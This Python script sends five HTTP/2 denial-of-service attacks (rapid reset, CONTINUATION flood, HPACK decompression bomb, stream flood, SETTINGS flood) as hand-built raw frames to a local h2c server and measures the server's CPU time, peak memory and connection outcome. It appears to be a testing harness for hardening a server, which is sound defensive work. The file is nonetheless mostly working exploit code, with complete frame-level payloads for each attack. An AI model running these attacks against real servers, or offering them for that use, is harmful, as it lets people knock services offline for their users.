#!/usr/bin/env python3
"""HTTP/2 attacks against a server, measured: what each costs the server
(CPU time and peak memory of its process, from /proc) and how it ends
(GOAWAY code, reset, or still open). Raw frames, no HTTP/2 library, so
the attacks are sent exactly as written.

Usage: h2_attacks.py PORT PID PATH [ATTACK...]
  PORT  an h2c (prior knowledge) port; PID the server process;
  PATH  the request path the streams ask for (a slow one, such as
        /_httpq/delay?ms=10000, makes each started stream cost work).
Attacks: rapid_reset continuation_flood hpack_bomb stream_flood settings_flood
"""
import os
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
GOAWAY_NAMES = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR",
                6: "FRAME_SIZE_ERROR", 7: "REFUSED_STREAM", 8: "CANCEL", 9: "COMPRESSION_ERROR",
                11: "ENHANCE_YOUR_CALM"}


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(index, value):
    """A literal field without indexing, name from the static table."""
    v = value.encode()
    assert len(v) < 127
    return bytes([index, len(v)]) + v


def request_block(port, path):
    return b"\x82\x86" + literal(4, path) + literal(1, f"127.0.0.1:{port}")


def cpu_and_peak(pid):
    """CPU seconds of every thread of `pid` (schedstat, nanoseconds), and
    its peak RSS in KiB."""
    cpu = 0
    for task in os.listdir(f"/proc/{pid}/task"):
        try:
            with open(f"/proc/{pid}/task/{task}/schedstat") as f:
                cpu += int(f.read().split()[0])
        except FileNotFoundError:
            pass
    peak = 0
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmHWM:"):
                peak = int(line.split()[1])
    return cpu / 1e9, peak


def connect(port):
    s = socket.create_connection(("127.0.0.1", port))
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    s.sendall(PREFACE + frame(4, 0, 0))
    return s


def drain(s, seconds):
    """Reads frames for up to `seconds`; returns how the connection ended."""
    s.settimeout(0.2)
    buf = b""
    end = time.time() + seconds
    outcome = "still open"
    resets = 0
    while time.time() < end:
        try:
            chunk = s.recv(1 << 16)
        except socket.timeout:
            continue
        except (ConnectionResetError, BrokenPipeError):
            return "reset (RST)", resets
        if not chunk:
            return outcome if outcome != "still open" else "closed (FIN)", resets
        buf += chunk
        while len(buf) >= 9:
            n = int.from_bytes(buf[:3], "big")
            if len(buf) < 9 + n:
                break
            kind, payload = buf[3], buf[9:9 + n]
            buf = buf[9 + n:]
            if kind == 7:
                code = struct.unpack(">I", payload[4:8])[0]
                outcome = f"GOAWAY {GOAWAY_NAMES.get(code, code)}"
            elif kind == 3:
                resets += 1
    return outcome, resets


def send_all(s, data):
    try:
        s.sendall(data)
        return True
    except (BrokenPipeError, ConnectionResetError):
        return False


def rapid_reset(port, path, n=20000):
    s = connect(port)
    block = request_block(port, path)
    sent = 0
    for i in range(n):
        sid = 1 + 2 * i
        # HEADERS then RST_STREAM, in separate small writes: the server has
        # accepted (and started) the stream before it learns of the reset.
        if not send_all(s, frame(1, 0x5, sid, block)):
            break
        if not send_all(s, frame(3, 0, sid, struct.pack(">I", 8))):
            break
        sent += 1
    outcome, _ = drain(s, 2)
    return f"{sent} of {n} HEADERS+RST_STREAM pairs sent; {outcome}"


def continuation_flood(port, path, total=64 << 20):
    s = connect(port)
    sent = 0
    ok = send_all(s, frame(1, 0x1, 1, request_block(port, path)))  # no END_HEADERS
    junk = b"\x40\x05x-bad\x7f\x81\x7f" + b"a" * 16000  # literal, 16 KB value
    piece = frame(9, 0, 1, junk[:16384])
    while ok and sent < total:
        ok = send_all(s, piece)
        sent += len(piece)
    outcome, _ = drain(s, 2)
    return f"{sent >> 10} KiB of CONTINUATION sent; {outcome}"


def hpack_bomb(port, path, refs=60000):
    s = connect(port)
    # One 4,000-byte field into the dynamic table, then referenced `refs`
    # times by its one-byte index (62): ~240 MB decoded from ~60 KB sent.
    big = b"\x40\x01x" + bytes([0x7F]) + _varint(4000 - 127) + b"b" * 4000
    block = request_block(port, path) + big + b"\xbe" * refs
    pieces = [block[i:i + 16384] for i in range(0, len(block), 16384)]
    frames = []
    for i, piece in enumerate(pieces):
        end_headers = 0x4 if i == len(pieces) - 1 else 0
        if i == 0:
            frames.append(frame(1, 0x1 | end_headers, 1, piece))
        else:
            frames.append(frame(9, end_headers, 1, piece))
    for f in frames:
        if not send_all(s, f):
            break
    outcome, resets = drain(s, 2)
    return f"{len(block) >> 10} KiB block that decodes to ~{refs * 4000 >> 20} MiB; {outcome}, {resets} RST_STREAM"


def _varint(n):
    out = b""
    while n >= 128:
        out += bytes([(n % 128) + 128])
        n //= 128
    return out + bytes([n])


def stream_flood(port, path, n=10000):
    s = connect(port)
    block = request_block(port, path)
    data = b"".join(frame(1, 0x5, 1 + 2 * i, block) for i in range(n))
    send_all(s, data)
    outcome, resets = drain(s, 3)
    return f"{n} streams opened at once (limit 100); {outcome}, {resets} RST_STREAM"


def settings_flood(port, path, n=100000):
    s = connect(port)
    data = frame(4, 0, 0, struct.pack(">HI", 3, 100)) * 1000
    sent = 0
    while sent < n and send_all(s, data):
        sent += 1000
    outcome, _ = drain(s, 2)
    return f"{sent} SETTINGS frames sent; {outcome}"


def main():
    port, pid, path = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
    attacks = sys.argv[4:] or ["rapid_reset", "continuation_flood", "hpack_bomb", "stream_flood", "settings_flood"]
    for name in attacks:
        cpu0, _ = cpu_and_peak(pid)
        t0 = time.time()
        result = globals()[name](port, path)
        wall = time.time() - t0
        time.sleep(0.5)
        cpu1, peak = cpu_and_peak(pid)
        print(f"{name}: {result}; server CPU {1000 * (cpu1 - cpu0):.1f} ms, attack {wall:.1f} s, peak RSS {peak >> 10} MiB", flush=True)


if __name__ == "__main__":
    main()
